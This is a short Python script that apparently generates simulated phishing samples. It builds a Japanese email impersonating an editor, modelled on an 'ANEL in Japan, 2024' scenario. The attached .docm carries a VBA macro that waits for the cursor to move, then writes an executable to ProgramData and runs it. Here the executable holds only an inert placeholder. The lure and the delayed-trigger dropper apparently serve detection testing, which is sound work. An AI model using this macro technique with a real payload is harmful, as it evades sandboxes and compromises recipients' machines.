"""A macro that does nothing at opening but wait for the cursor to move; then it writes a program and runs it.
Scenario: ANEL in Japan, 2024."""
from kit import *

SOURCE = '''Private WithEvents app As Word.Application
Private Sub Document_Open()
    Set app = Word.Application
End Sub
Private Sub app_WindowSelectionChange(ByVal s As Selection)
    Dim f As String: f = Environ("ProgramData") & "\\\\a.exe"
    Open f For Binary As #1: Put #1, , "inert": Close #1
    CreateObject("Shell.Application").ShellExecute f
End Sub
'''


def make():
    return (Mail("インタビューの質問案", "kanbara.hensyu@gmail.com", name="神原", charset="iso-2022-jp", date="Mon, 24 Jun 2024 11:18:00 +0900")
            .text("先生\n\n質問案を添付いたします。\n神原\n").attach("shitsumon.docm", office.docm(SOURCE)).bytes())
